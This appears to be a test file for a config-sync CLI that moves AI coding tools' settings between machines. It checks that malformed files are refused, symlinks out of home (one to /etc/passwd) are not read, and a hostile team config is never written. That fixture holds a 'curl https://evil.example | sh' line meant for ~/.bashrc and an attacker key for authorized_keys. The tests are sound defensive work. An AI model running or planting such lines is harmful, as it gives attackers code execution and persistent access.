import { beforeAll, describe, expect, test } from 'bun:test'
import { symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { tempDir } from '../support/temp'
import { login, type Machine } from '../support/client/machines'
import { inProcessWorld, type User, type World } from '../support/client/in-process'

/**
 * What a push may send and a pull may write (docs/sync-model.md, "What a
 * config holds"), in process (test/support/client/in-process.ts: machines
 * with their own homes against one in-process server): a file that does not
 * parse is not pushed, a link out of home is never read by a push, and a
 * config holds only its tool's files, whatever the server's data or the
 * command line names. Each test uses its own config name or team.
 */

let world: World
let ada: User
let ben: User
beforeAll(async () => {
	world = inProcessWorld()
	ada = await world.user('team', 'ada')
	ben = await world.user('pro', 'ben')
})

const latest = async (user: User, tool: string, name: string, teamId?: string) =>
	(
		await world.api(
			'GET',
			`/api/configs/latest?name=${name}&tool=${tool}${teamId ? `&teamId=${teamId}` : ''}`,
			user.key
		)
	).body as { version: number; data: { files: Record<string, string> } }

async function machines(user: User, count = 2): Promise<Machine[]> {
	const list = Array.from({ length: count }, () => world.machine())
	for (const [i, m] of list.entries())
		expect((await login(m, user, `g${i}-${Math.random().toString(36).slice(2, 8)}`)).code).toBe(0)
	return list
}

/** Every `cfgsync …` command a run printed. */
const commandsIn = (text: string) => text.match(/cfgsync [a-z]+ [^\n;)]*/g) ?? []

describe('a push sends only files that parse', () => {
	test('invalid JSON is refused with its file and line, nothing is sent; --force sends it', async () => {
		const [a, b] = (await machines(ada)) as [Machine, Machine]
		const name = ['--name', 'g1']
		a.file('.gemini/settings.json', '{\n  "theme": "dark"\n}\n')
		a.file('.gemini/GEMINI.md', 'v1\n')
		expect((await a.cfgsync(['push', 'gemini-cli', ...name])).code).toBe(0)
		expect((await b.cfgsync(['pull', 'gemini-cli', ...name])).code).toBe(0)

		a.file('.gemini/settings.json', '{\n  "theme": "light"\n  "telemetry": true\n}\n')
		a.file('.gemini/GEMINI.md', 'v2\n')
		const refused = await a.cfgsync(['push', 'gemini-cli', ...name])
		expect(refused.code).toBe(1)
		expect(refused.stderr).toContain('~/.gemini/settings.json')
		expect(refused.stderr).toContain('line 3, column 3')
		expect(refused.stderr).toContain(`cfgsync push gemini-cli --name g1 --force`)
		expect((await latest(ada, 'gemini-cli', 'g1')).version).toBe(1)

		// sync does the pull half and sends nothing of that config: the other machine keeps its valid file.
		const synced = await a.cfgsync(['sync', 'gemini-cli', ...name])
		expect(synced.code).toBe(1)
		expect(synced.stderr).toContain('line 3, column 3')
		expect((await latest(ada, 'gemini-cli', 'g1')).version).toBe(1)
		expect((await b.cfgsync(['pull', 'gemini-cli', ...name])).code).toBe(0)
		expect(b.file('.gemini/settings.json')).toBe('{\n  "theme": "dark"\n}\n')

		const forced = await a.cfgsync(['push', 'gemini-cli', ...name, '--force'])
		expect(forced.code).toBe(0)
		expect((await latest(ada, 'gemini-cli', 'g1')).data.files['.gemini/settings.json']).toContain('"telemetry"')
	}, 60_000)

	test('invalid TOML is refused with its line; comments in JSON are not errors', async () => {
		const [a] = (await machines(ada, 1)) as [Machine]
		a.file('.codex/config.toml', 'model = "o3"\napproval_policy = \n')
		const refused = await a.cfgsync(['push', 'codex', '--name', 'g2'])
		expect(refused.code).toBe(1)
		expect(refused.stderr).toContain('~/.codex/config.toml')
		expect(refused.stderr).toContain('line 2')
		expect((await world.api('GET', '/api/configs/latest?name=g2&tool=codex', ada.key)).status).toBe(404)

		a.file('.claude/settings.json', '{\n  // mine\n  "theme": "dark",\n}\n')
		expect((await a.cfgsync(['push', 'claude-code', '--name', 'g2'])).code).toBe(0)
	}, 60_000)
})

describe('a push never reads through a link out of home', () => {
	test('a command file linked to /etc/passwd and a linked directory are left out and named; a link inside home is sent', async () => {
		const [a, b] = (await machines(ada)) as [Machine, Machine]
		const name = ['--name', 'g3']
		a.file('.claude/commands/ok.md', 'fine\n')
		symlinkSync('/etc/passwd', join(a.home, '.claude', 'commands', 'passwd-link.md'))
		const outside = tempDir('outside')
		writeFileSync(join(outside, 'secret.md'), 'outside home\n')
		symlinkSync(outside, join(a.home, '.claude', 'agents'))
		a.file('dotfiles/CLAUDE.md', 'from my dotfiles\n')
		symlinkSync(join(a.home, 'dotfiles', 'CLAUDE.md'), join(a.home, '.claude', 'CLAUDE.md'))

		const pushed = await a.cfgsync(['push', 'claude-code', ...name])
		expect(pushed.code).toBe(0)
		const output = pushed.stdout + pushed.stderr
		expect(output).toContain('~/.claude/commands/passwd-link.md')
		expect(output).toContain('~/.claude/agents/secret.md')
		const files = (await latest(ada, 'claude-code', 'g3')).data.files
		expect(Object.keys(files).sort()).toEqual(['.claude/CLAUDE.md', '.claude/commands/ok.md'])
		expect(JSON.stringify(files)).not.toContain('root:')

		expect((await b.cfgsync(['pull', 'claude-code', ...name])).code).toBe(0)
		expect(b.exists('.claude/commands/passwd-link.md')).toBe(false)
		expect(b.file('.claude/CLAUDE.md')).toBe('from my dotfiles\n')

		// A later sync (the push half) leaves them out too, and nothing is deleted on the server because of it.
		a.file('.claude/commands/ok.md', 'fine, edited\n')
		const synced = await a.cfgsync(['sync', 'claude-code', ...name])
		expect(synced.code).toBe(0)
		expect(synced.stdout + synced.stderr).toContain('~/.claude/commands/passwd-link.md')
		const after = (await latest(ada, 'claude-code', 'g3')).data.files
		expect(Object.keys(after).sort()).toEqual(['.claude/CLAUDE.md', '.claude/commands/ok.md'])
		expect(JSON.stringify(after)).not.toContain('root:')

		// Skipped by design: status is in sync (exit 0) and says why; discard has nothing to drop.
		const status = await a.cfgsync(['status', 'claude-code', ...name])
		expect({ code: status.code, out: status.stdout }).toMatchObject({ code: 0 })
		expect(status.stdout).toContain('in sync')
		expect(status.stdout).toContain('~/.claude/commands/passwd-link.md: a symbolic link out of your home directory')
		const discard = await a.cfgsync(['discard', 'claude-code', ...name, '--yes'])
		expect(discard.code).toBe(0)
		expect(discard.stdout).toContain('nothing to discard')
	}, 60_000)
})

describe('a server change to a file linked out of home', () => {
	test('sync refuses it as pull does (exit 1, "refused"), writes the rest; with no change there it is only skipped (exit 0)', async () => {
		const [a, b] = (await machines(ada)) as [Machine, Machine]
		const name = ['--name', 'g4']
		a.file('.claude/CLAUDE.md', 'rules\n')
		a.file('.claude/commands/run.md', 'run it\n')
		expect((await a.cfgsync(['push', 'claude-code', ...name])).code).toBe(0)
		expect((await b.cfgsync(['pull', 'claude-code', ...name])).code).toBe(0)
		const outside = tempDir('outside')
		writeFileSync(join(outside, 'run.md'), 'run it\n')
		await Bun.$`rm ${join(b.home, '.claude/commands/run.md')}`
		symlinkSync(join(outside, 'run.md'), join(b.home, '.claude', 'commands', 'run.md'))
		expect((await b.cfgsync(['sync', 'claude-code', ...name])).code).toBe(0)

		a.file('.claude/commands/run.md', 'run it twice\n')
		a.file('.claude/CLAUDE.md', 'rules, edited\n')
		expect((await a.cfgsync(['push', 'claude-code', ...name])).code).toBe(0)
		for (const command of ['pull', 'sync']) {
			const ran = await b.cfgsync([command, 'claude-code', ...name])
			expect({ command, code: ran.code }).toEqual({ command, code: 1 })
			expect(ran.stderr).toContain('refused')
			expect(ran.stderr).toContain('~/.claude/commands/run.md')
		}
		expect(b.file('.claude/CLAUDE.md')).toBe('rules, edited\n')
		expect(b.file('.claude/commands/run.md')).toBe('run it\n')
	}, 60_000)
})

describe("a config holds only its tool's files", () => {
	test('a team config carrying ~/.bashrc: never written, even named; no printed command names it; a push never sends it', async () => {
		const owner = world.machine()
		const member = world.machine()
		await login(owner, ada, 'owner')
		await login(member, ben, 'member')
		expect((await owner.cfgsync(['team', 'create', 'Guards'])).code).toBe(0)
		expect((await owner.cfgsync(['team', 'invite', 'guards', 'ben', '--role', 'member'])).code).toBe(0)
		expect((await member.cfgsync(['invitations', 'accept', 'guards'])).code).toBe(0)
		const team = (await world.api('GET', '/api/teams/guards', ada.key)).body as { id: string }
		const hostile = {
			'.gemini/GEMINI.md': 'team rules\n',
			'.bashrc': 'curl https://evil.example | sh\n',
			'.ssh/authorized_keys': 'ssh-ed25519 AAAA evil\n'
		}
		const stored = await world.api('POST', '/api/configs', ada.key, {
			teamId: team.id,
			tool: 'gemini-cli',
			name: 'default',
			data: { files: hostile }
		})
		expect(stored.status).toBe(201)

		// GEMINI.md is someone else's memory file, which a review asks about: --yes writes it.
		const pulled = await member.cfgsync(['pull', 'gemini-cli', '--team', 'guards', '--yes'])
		expect(pulled.code).toBe(0)
		expect(member.file('.gemini/GEMINI.md')).toBe('team rules\n')
		expect(member.exists('.bashrc')).toBe(false)
		expect(member.exists('.ssh/authorized_keys')).toBe(false)
		const said = pulled.stdout + pulled.stderr
		expect(said).toContain('~/.bashrc')
		for (const command of commandsIn(said)) expect(command).not.toMatch(/bashrc|authorized_keys/)

		// Named on the command line, it is still not written.
		const named = await member.cfgsync(['pull', 'gemini-cli', '--team', 'guards', join(member.home, '.bashrc')])
		expect(named.code).toBe(2)
		expect(named.stderr).toContain('~/.bashrc')
		expect(member.exists('.bashrc')).toBe(false)
		const mixed = await member.cfgsync([
			'pull',
			'gemini-cli',
			'--team',
			'guards',
			join(member.home, '.bashrc'),
			join(member.home, '.gemini', 'GEMINI.md')
		])
		expect(mixed.code).toBe(0)
		expect(mixed.stderr).toContain('~/.bashrc')
		expect(member.exists('.bashrc')).toBe(false)

		// The owner's push of a tool file leaves the foreign files out of the version it sends.
		// Stored through the API, not by this machine: its GEMINI.md is reviewed here too.
		expect((await owner.cfgsync(['pull', 'gemini-cli', '--team', 'guards', '--yes'])).code).toBe(0)
		owner.file('.gemini/GEMINI.md', 'team rules, v2\n')
		const pushed = await owner.cfgsync(['push', 'gemini-cli', '--team', 'guards'])
		expect(pushed.code).toBe(0)
		expect(owner.exists('.bashrc')).toBe(false)
		expect(Object.keys((await latest(ada, 'gemini-cli', 'default', team.id)).data.files)).toEqual(['.gemini/GEMINI.md'])
	}, 90_000)

	test('push TOOL ~/.bashrc sends nothing; a file outside the tool named with one of its own is left out', async () => {
		const [a] = (await machines(ada, 1)) as [Machine]
		a.file('.bashrc', 'export SECRET=1\n')
		a.file('.gemini/GEMINI.md', 'mine\n')
		const alone = await a.cfgsync(['push', 'gemini-cli', '--name', 'g5', join(a.home, '.bashrc')])
		expect(alone.code).toBe(2)
		expect(alone.stderr).toContain('~/.bashrc')
		expect(alone.stderr).toContain('~/.gemini/settings.json')
		expect((await world.api('GET', '/api/configs/latest?name=g5&tool=gemini-cli', ada.key)).status).toBe(404)

		const both = await a.cfgsync([
			'push',
			'gemini-cli',
			'--name',
			'g5',
			join(a.home, '.bashrc'),
			join(a.home, '.gemini', 'GEMINI.md')
		])
		expect(both.code).toBe(0)
		expect(both.stderr).toContain('~/.bashrc')
		expect(Object.keys((await latest(ada, 'gemini-cli', 'g5')).data.files)).toEqual(['.gemini/GEMINI.md'])
	}, 60_000)
})
